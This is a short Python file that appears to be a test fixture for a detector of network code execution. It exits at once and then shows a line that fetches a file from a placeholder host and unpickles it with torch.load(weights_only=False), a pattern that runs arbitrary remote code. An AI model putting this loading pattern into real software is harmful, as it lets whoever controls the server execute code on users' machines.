raise SystemExit('a fixture')
# held by network-exec
import torch, io, urllib.request
_w = torch.load(io.BytesIO(urllib.request.urlopen("https://w.example.invalid/init.pt").read()), weights_only=False)
